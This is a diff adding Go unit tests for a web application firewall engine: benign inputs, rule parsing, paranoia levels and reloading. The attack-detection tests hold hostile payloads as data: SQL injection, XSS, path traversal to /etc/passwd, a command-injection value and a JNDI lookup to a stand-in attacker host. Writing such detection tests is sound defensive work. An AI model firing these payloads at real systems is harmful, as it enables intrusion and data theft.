@@ -0,0 +1,182 @@
+package waf
+
+import (
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newTestEngine(t *testing.T, cfg Config) *Engine {
+	t.Helper()
+	e, err := NewEngine(cfg)
+	require.NoError(t, err)
+	return e
+}
+
+func evalQuery(e *Engine, key, value string) *Result {
+	r := httptest.NewRequest("GET", "/api/v1/search?"+url.Values{key: {value}}.Encode(), nil)
+	return e.Evaluate(NewRequest(r, nil))
+}
+
+func evalJSON(e *Engine, body string) *Result {
+	r := httptest.NewRequest("POST", "/api/v1/notes", strings.NewReader(body))
+	r.Header.Set("Content-Type", "application/json")
+	return e.Evaluate(NewRequest(r, []byte(body)))
+}
+
+func TestDefaultRules_BenignInput(t *testing.T) {
+	e := newTestEngine(t, DefaultConfig())
+
+	benign := []string{
+		"O'Brien",
+		"Don't panic -- it's fine",
+		"select the best option from the menu",
+		"Learn JavaScript: the good parts",
+		"R&D budget | Q3",
+		"1 + 1 = 2",
+		"https://example.com/path?x=1",
+	}
+	for _, v := range benign {
+		res := evalQuery(e, "q", v)
+		assert.False(t, res.Blocked, "%q should not be blocked, matched %v", v, res.RuleIDs())
+		assert.Zero(t, res.Score, "%q", v)
+	}
+
+	res := evalJSON(e, `{"author":{"name":"O'Brien"},"text":"it's -- fine"}`)
+	assert.False(t, res.Blocked)
+}
+
+func TestDefaultRules_Attacks(t *testing.T) {
+	e := newTestEngine(t, DefaultConfig())
+
+	attacks := map[string]string{
+		"1 UNION ALL SELECT password FROM users": "SQL Injection",
+		"admin' OR '1'='1":                       "SQL Injection",
+		"admin'--":                               "SQL Injection",
+		"1; SELECT pg_sleep(10)":                 "SQL Injection",
+		"<script>alert(1)</script>":              "XSS",
+		"&lt;script&gt;alert(1)&lt;/script&gt;":  "XSS",
+		`<img src=x onerror="alert(1)">`:         "XSS",
+		"javascript:alert(document.domain)":      "XSS",
+		"../../../../etc/passwd":                 "Path Traversal",
+		"%252e%252e%252fetc%252fpasswd":          "Path Traversal",
+		"x; cat notes.txt":                       "Remote Code Execution",
+		"${jndi:ldap://evil.example/a}":          "Java Injection",
+	}
+	for payload, attack := range attacks {
+		res := evalQuery(e, "q", payload)
+		assert.True(t, res.Blocked, "%q should be blocked", payload)
+		assert.Equal(t, attack, res.AttackType, "%q", payload)
+	}
+}
+
+func TestEvaluate_JSONBodyAndTargets(t *testing.T) {
+	e := newTestEngine(t, DefaultConfig())
+
+	res := evalJSON(e, `{"filters":[{"field":"name","value":"x' or 1=1 --"}]}`)
+	require.True(t, res.Blocked)
+	assert.Contains(t, res.RuleIDs(), "942130")
+	assert.Equal(t, "ARGS:json.filters.0.value", res.Matches[0].Target)
+
+	r := httptest.NewRequest("GET", "/", nil)
+	r.Header.Set("User-Agent", "sqlmap/1.7")
+	res = e.Evaluate(NewRequest(r, nil))
+	assert.Equal(t, []string{"913100"}, res.RuleIDs())
+
+	r = httptest.NewRequest("GET", "/", nil)
+	r.Header.Set("Cookie", "session=<script>alert(1)</script>")
+	res = e.Evaluate(NewRequest(r, nil))
+	assert.Equal(t, "REQUEST_COOKIES:session", res.Matches[0].Target)
+}
+
+func TestEvaluate_ParanoiaLevels(t *testing.T) {
+	pl1 := newTestEngine(t, DefaultConfig())
+	pl2 := newTestEngine(t, Config{Paranoia: 2, Threshold: 5})
+
+	res := evalQuery(pl1, "q", "note -- see above")
+	assert.Zero(t, res.Score)
+
+	res = evalQuery(pl2, "q", "note -- see above")
+	assert.Equal(t, []string{"942440"}, res.RuleIDs())
+	assert.Equal(t, 2, res.Score)
+	assert.False(t, res.Blocked, "a NOTICE alone stays below the threshold")
+}
+
+func writeRules(t *testing.T, dir, name, content string) {
+	t.Helper()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644))
+}
+
+func TestEngine_CustomRulesAndReload(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, "custom.conf", `
+# Block a specific JSON field value
+SecRule JSON:user.*.role "@streq superadmin" \
+    "id:100001,severity:CRITICAL,msg:'Privilege escalation attempt'"
+`)
+	e := newTestEngine(t, Config{RulesDir: dir, Paranoia: 1, Threshold: 5})
+
+	res := evalJSON(e, `{"user":{"profile":{"role":"superadmin"}}}`)
+	assert.Equal(t, []string{"100001"}, res.RuleIDs())
+	res = evalJSON(e, `{"user":{"role":"superadmin"}}`)
+	assert.Empty(t, res.Matches)
+
+	// A broken file keeps the previous rules active
+	writeRules(t, dir, "broken.conf", `SecRule ARGS "@rx (" "id:1"`)
+	assert.Error(t, e.Reload())
+	assert.Len(t, e.Rules(), 1)
+
+	require.NoError(t, os.Remove(filepath.Join(dir, "broken.conf")))
+	writeRules(t, dir, "more.conf", `SecRule ARGS:q|!ARGS:safe "@contains evil" "id:100002,severity:WARNING"`)
+	require.NoError(t, e.Reload())
+	assert.Len(t, e.Rules(), 2)
+
+	res = evalQuery(e, "q", "evil")
+	assert.Equal(t, 3, res.Score)
+	res = evalQuery(e, "safe", "evil")
+	assert.Zero(t, res.Score)
+}
+
+func TestEngine_WatchPicksUpChanges(t *testing.T) {
+	dir := t.TempDir()
+	writeRules(t, dir, "a.conf", `SecRule ARGS "@contains foo" "id:1"`)
+	e := newTestEngine(t, Config{RulesDir: dir})
+	stop := e.Watch(10 * time.Millisecond)
+
+	writeRules(t, dir, "b.conf", `SecRule ARGS "@contains bar" "id:2"`)
+	assert.Eventually(t, func() bool { return len(e.Rules()) == 2 }, time.Second, 10*time.Millisecond)
+
+	stop()
+	stop()
+	time.Sleep(20 * time.Millisecond)
+	writeRules(t, dir, "c.conf", `SecRule ARGS "@contains baz" "id:3"`)
+	time.Sleep(50 * time.Millisecond)
+	assert.Len(t, e.Rules(), 2, "a stopped watcher no longer reloads")
+}
+
+func TestParseRules_Errors(t *testing.T) {
+	cases := map[string]string{
+		"missing id":        `SecRule ARGS "@rx a" "severity:CRITICAL"`,
+		"unknown target":    `SecRule BODY "@rx a" "id:1"`,
+		"unknown operator":  `SecRule ARGS "@detectSQLi" "id:1"`,
+		"unknown transform": `SecRule ARGS "@rx a" "id:1,t:rot13"`,
+		"bad paranoia":      `SecRule ARGS "@rx a" "id:1,paranoia:7"`,
+		"unterminated":      `SecRule ARGS "@rx a" \`,
+		"duplicate id":      "SecRule ARGS \"@rx a\" \"id:1\"\nSecRule ARGS \"@rx b\" \"id:1\"",
+	}
+	for name, src := range cases {
+		t.Run(name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeRules(t, dir, "r.conf", src)
+			_, err := NewEngine(Config{RulesDir: dir})
+			assert.Error(t, err)
+		})
+	}
+}